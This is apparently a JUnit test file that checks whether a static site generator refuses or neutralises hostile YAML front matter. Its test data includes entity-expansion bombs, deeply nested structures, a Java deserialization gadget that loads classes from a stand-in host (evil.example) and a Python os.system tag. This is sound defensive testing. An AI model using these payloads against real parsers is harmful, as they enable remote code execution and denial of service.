package dev.broadsheet.hostile;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.broadsheet.cli.Program.Ended;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.io.TempDir;

/** Front matter that blows up, runs deep, means something else than it says, or is none. */
class MatterTest {

    private static final String FIELDS = "title: Hostile\npublishedDateTime: 2026-03-02T09:00:00Z\n";

    /** What must be refused, by name: the YAML after two harmless fields, or a whole file where it begins with a hyphen. */
    private static Map<String, String> bombs() {
        Map<String, String> all = new TreeMap<>();
        all.put(
                "billion laughs",
                IntStream.range(1, 10)
                        .mapToObj(i -> "a" + i + ": &a" + i + " [" + ("*a" + (i - 1) + ",").repeat(9) + "]\n")
                        .collect(Collectors.joining("", "a0: &a0 [lol]\n", "topics: *a9\n")));
        all.put("quadratic blow-up", "a: &a \"" + "x".repeat(30_000) + "\"\nb: [" + "*a,".repeat(5_000) + "]\n");
        all.put("list that holds itself", "topics: &a [*a]\n");
        all.put("map that holds itself", "provider: &a {name: *a}\n");
        all.put("merge of itself", "extra: &a\n  <<: *a\n");
        all.put("merge of many", "a: &a {b: c}\nextra:\n  <<: [" + "*a,".repeat(4_000) + "]\n");
        all.put("merge key", "<<: {published: true}\n");
        all.put("unused anchor", "extra: &unused text\n");
        all.put("deep list in flow", "topics: " + "[".repeat(20_000) + "\n");
        all.put("deep list in flow, closed", "topics: " + "[".repeat(5_000) + "]".repeat(5_000) + "\n");
        all.put("deep map in flow", "extra: " + "{a: ".repeat(10_000) + "\n");
        all.put("deep list in blocks", "topics:\n  " + "- ".repeat(15_000) + "x\n");
        all.put(
                "deep map in blocks",
                IntStream.range(0, 200).mapToObj(i -> " ".repeat(i) + "a:\n").collect(Collectors.joining()));
        all.put("deep questions", "? ".repeat(20_000) + "\n");
        all.put("huge scalar", "title2: " + "x".repeat(60_000) + "\n");
        all.put("megabytes", "extra: " + "x ".repeat(1_500_000) + "\n");
        all.put(
                "many keys",
                IntStream.range(0, 9_000).mapToObj(i -> "k" + i + ":\n").collect(Collectors.joining()));
        all.put("many entries", "topics: [" + "x,".repeat(20_000) + "]\n");
        all.put(
                "java class",
                "extra: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"https://evil.example/\"]]]]\n");
        all.put("python object", "extra: !!python/object/apply:os.system [\"touch pwned\"]\n");
        all.put("wrong tags", "extra: !!int abc\n");
        all.put("map of a list", "extra: !!map [a]\n");
        all.put("binary", "extra: !!binary \"***\"\n");
        all.put("set", "extra: !!set {a, b}\n");
        all.put("local tag", "title2: !secret text\n");
        all.put("duplicate key", "published: false\npublished: true\n");
        all.put("duplicate key in disguise", "published: false\n\"pub\\u006cished\": true\n");
        all.put("list as a key", "? [published]\n: true\n");
        all.put("directive", "%YAML 9.9\n--- \nextra: x\n");
        all.put("unclosed quotation", "extra: \"\n" + "x\n".repeat(10_000));
        all.put("tabs", "extra:\n\t- x\n");
        all.put("yes that is no truth", "published: yes\n");
        all.put("truth in capitals", "published: False\n");
        all.put("draft that is neither", "draft: 0\n");
        all.put("deleted that is a list", "deleted: [true]\n");
        all.put("date that is none", "expiryDateTime: 2026-02-30T00:00:00Z\n");
        all.put("date beyond all years", "expiryDateTime: +999999999-12-31T23:59:59Z\n");
        all.put("slug that is a map", "slug: {a: b}\n");
        all.put("category that is a list", "category: [a]\n");
        all.put("no closing line", "-");
        all.put("no map", "-- just words\n---\n");
        all.put("list", "--\n- a\n- b\n---\n");
        all.put("number", "--\n42\n---\n");
        return all;
    }

    /** What is read as text, whatever it means elsewhere. */
    private static Map<String, String> oddities() {
        Map<String, String> all = new TreeMap<>();
        all.put("huge block scalar", "extra: |\n" + "  x\n".repeat(15_000));
        all.put("huge folded scalar", "extra: >\n" + "  x\n\n".repeat(10_000));
        all.put("huge quoted scalar", "extra: \"" + "\\n".repeat(30_000) + "\"\n");
        all.put("java class by tag", "%TAG ! tag:yaml.org,2002:\n---\nextra: !java.lang.Runtime {}\n");
        all.put("second document", "...\n--- \npublished: true\n");
        return all;
    }

    private static String file(String yaml) {
        return yaml.startsWith("-") ? "--" + yaml + "\nText.\n" : "---\n" + FIELDS + yaml + "---\nText.\n";
    }

    @TestFactory
    Stream<DynamicTest> isRefusedSoonAndTheOthersAreBuilt(@TempDir Path folder) {
        return bombs().entrySet().stream()
                .map(bomb -> DynamicTest.dynamicTest(bomb.getKey(), () -> {
                    Press press = new Press(folder.resolve(bomb.getKey().replace(' ', '-')));
                    press.write("content/news/bomb.md", file(bomb.getValue()));
                    Ended ended = Spent.within(5, press::build);
                    assertEquals(0, ended.status(), ended::err);
                    assertTrue(ended.err().contains("content/news/bomb.md:"), ended::err);
                    assertTrue(ended.err().contains(": error ["), ended::err);
                    assertTrue(press.text(Press.GOOD).contains("The ferry came in."));
                    assertFalse(press.holds("Hostile"));
                    assertTrue(ended.err().length() < 10_000, ended::err);
                    Terminal.assertPlain(ended);
                    assertEquals(List.of(), press.escaped());
                }));
    }

    @TestFactory
    Stream<DynamicTest> isTextAndNothingElse(@TempDir Path folder) {
        return oddities().entrySet().stream()
                .map(odd -> DynamicTest.dynamicTest(odd.getKey(), () -> {
                    Press press = new Press(folder.resolve(odd.getKey().replace(' ', '-')));
                    press.write("content/news/odd.md", file(odd.getValue()));
                    Ended ended = Spent.within(5, press::build);
                    assertEquals(0, ended.status(), ended::err);
                    assertTrue(press.text("news/2026/03/02/odd/index.html").contains("Hostile"));
                    assertEquals(List.of(), Inert.judge(press.files()));
                    assertEquals(List.of(), press.escaped());
                }));
    }

    /** Where the newsroom's own files are bombs, nothing is built, and the message says which. */
    @Test
    void settingsAndDefinitionsAreReadAsStrictly(@TempDir Path folder) {
        for (String path : List.of("content/site.yaml", "content/topics/bomb.yaml", "content/providers/bomb.yaml")) {
            for (String bomb : List.of("billion laughs", "deep list in flow", "java class", "many keys", "megabytes")) {
                Press press = new Press(folder.resolve(path.replace('/', '-') + bomb.replace(' ', '-')));
                press.write(path, "name: x\ndomain: x.example\n" + bombs().get(bomb));
                Ended ended = Spent.within(5, press::build);
                assertEquals(path.endsWith("site.yaml") ? 2 : 1, ended.status(), ended::err);
                assertTrue(ended.err().contains(path + ":"), ended::err);
                Terminal.assertPlain(ended);
            }
        }
    }

    @Test
    void anotherProgramsSettingsAreNeverExpanded(@TempDir Path folder) {
        Press press = new Press(folder);
        press.write("content/_config.yml", "title: &t Theirs\n" + bombs().get("billion laughs"));
        Ended ended = Spent.within(5, press::build);
        assertEquals(0, ended.status(), ended::err);
    }
}
